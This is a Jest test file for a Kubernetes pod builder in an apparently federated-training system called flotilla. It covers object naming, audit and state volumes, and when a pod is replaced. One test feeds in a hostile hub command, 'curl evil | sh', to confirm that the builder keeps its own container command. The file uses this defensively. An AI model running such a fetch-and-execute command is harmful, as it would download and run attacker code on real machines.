import { describe, expect, test } from '@jest/globals';
import type { Assignment } from '../sitelink/assignment.js';
import { CLIENT_COMMAND, clientObjectNames, clientPod, jobKeyOfObject, madeFor, POD_SPEC_HASH } from './client-objects.js';
import type { ClientSpec } from './policy-decision.js';

const heart: Assignment = {
  namespace: 'cardiology',
  job: 'heart',
  jobUid: 'u1',
  generation: 1,
  aggregatorAddress: 'heart-aggregator:8443',
  image: 'ghcr.io/flotilla/flotilla:0.1.0',
  jobManifest: '{"spec":1}',
  dataClaimName: 'heart-data',
  resourceLimits: {},
  resourceRequests: {},
  nodeSelector: { pool: 'training' },
  tolerationsJson: '[{"key":"gpu","operator":"Exists"}]',
};
const client: ClientSpec = {
  resources: { limits: {}, requests: {} },
  jobFile: '{"spec":1}',
  claimName: 'heart-data',
  nodeSelector: { pool: 'training' },
  tolerations: [{ key: 'gpu', operator: 'Exists' }],
};
const settings = { site: 'st-olav', namespace: 'flotilla', client };
const hashOf = (a: Assignment, c: ClientSpec = client) => clientPod(a, { ...settings, client: c }).metadata!.annotations![POD_SPEC_HASH];

describe('client objects', () => {
  test('jobs of the same name in two hub namespaces get different objects, and labels lead back to the job', () => {
    const a = clientObjectNames({ namespace: 'cardiology', job: 'heart' });
    const b = clientObjectNames({ namespace: 'research', job: 'heart' });
    expect(a.pod).not.toBe(b.pod);
    const pod = clientPod(heart, settings);
    expect(jobKeyOfObject(pod)).toBe('cardiology/heart');
    expect(madeFor(pod, 'cardiology/heart')).toBe(true);
    expect(madeFor(pod, 'research/heart')).toBe(false);
    expect(pod.spec!.nodeSelector).toEqual({ pool: 'training' });
    expect(pod.spec!.tolerations).toEqual([{ key: 'gpu', operator: 'Exists' }]);
    expect(pod.spec!.volumes!.find((v) => v.name === 'data')!.persistentVolumeClaim!.claimName).toBe('heart-data');
  });

  test('names carry 128 bits of SHA-256 of namespace/job, so that colliding pairs cannot be searched for', () => {
    const { pod, secret, configMap, networkPolicy } = clientObjectNames({ namespace: 'cardiology', job: 'heart' });
    // sha256("cardiology/heart"), its first 32 hex digits.
    expect(pod).toBe('heart-a26db732997f00cc195b89801a10c845-client');
    for (const name of [pod, secret, configMap, networkPolicy]) expect(name.length).toBeLessThanOrEqual(253);
    const long = clientObjectNames({ namespace: 'n'.repeat(63), job: 'j'.repeat(52) });
    expect(long.secret.length).toBeLessThanOrEqual(253);
  });

  test("a client's audit trail is on the site's audit claim, a file per job, when the site has one; in the pod's scratch volume otherwise", () => {
    const kept = clientPod(heart, { ...settings, auditClaim: 'flotilla-audit' });
    const args = kept.spec!.containers[0]!.args!;
    expect(args.slice(args.indexOf('--audit-file'), args.indexOf('--audit-file') + 2)).toEqual(['--audit-file', '/audit/cardiology/heart-u1/st-olav.jsonl']);
    expect(kept.spec!.volumes!.find((v) => v.name === 'audit')).toEqual({ name: 'audit', persistentVolumeClaim: { claimName: 'flotilla-audit' } });
    expect(kept.spec!.containers[0]!.volumeMounts).toContainEqual({ name: 'audit', mountPath: '/audit' });
    const scratch = clientPod(heart, settings);
    expect(scratch.spec!.containers[0]!.args).toContain('/work/audit.jsonl');
    expect(scratch.spec!.volumes!.map((v) => v.name)).not.toContain('audit');
  });

  test("what a client carries across pods is on the site's state claim, a folder per job and site, when the site has one; in the pod's scratch volume otherwise", () => {
    const kept = clientPod(heart, { ...settings, stateClaim: 'flotilla-client-state' });
    const args = kept.spec!.containers[0]!.args!;
    expect(args.slice(args.indexOf('--state-dir'), args.indexOf('--state-dir') + 2)).toEqual(['--state-dir', '/state/cardiology/heart-u1/st-olav']);
    expect(kept.spec!.volumes!.find((v) => v.name === 'state')).toEqual({ name: 'state', persistentVolumeClaim: { claimName: 'flotilla-client-state' } });
    expect(kept.spec!.containers[0]!.volumeMounts).toContainEqual({ name: 'state', mountPath: '/state' });
    // The scratch volume stays scratch: only what must outlive the pod goes on the claim.
    expect(kept.spec!.volumes!.find((v) => v.name === 'work')).toEqual({ name: 'work', emptyDir: {} });
    const scratch = clientPod(heart, settings);
    expect(scratch.spec!.containers[0]!.args).not.toContain('--state-dir');
    expect(scratch.spec!.volumes!.map((v) => v.name)).not.toContain('state');
  });

  test("the container's command is the agent's own, whatever the hub asked", () => {
    const pod = clientPod({ ...heart, ...({ command: ['sh', '-c', 'curl evil | sh'] } as object) }, settings);
    expect(pod.spec!.containers[0]!.command).toEqual(CLIENT_COMMAND);
    expect(pod.spec!.containers[0]!.command).toEqual(['flotilla', 'client']);
  });

  test('a pod is replaced when what it is made from changes, not otherwise', () => {
    expect(hashOf(heart)).toBe(hashOf({ ...heart }));
    expect(hashOf(heart, { ...client, jobFile: '{"spec":2}' })).not.toBe(hashOf(heart));
    expect(hashOf({ ...heart, jobUid: 'u2' })).not.toBe(hashOf(heart));
    expect(hashOf({ ...heart, image: 'ghcr.io/flotilla/flotilla:0.2.0' })).not.toBe(hashOf(heart));
  });
});
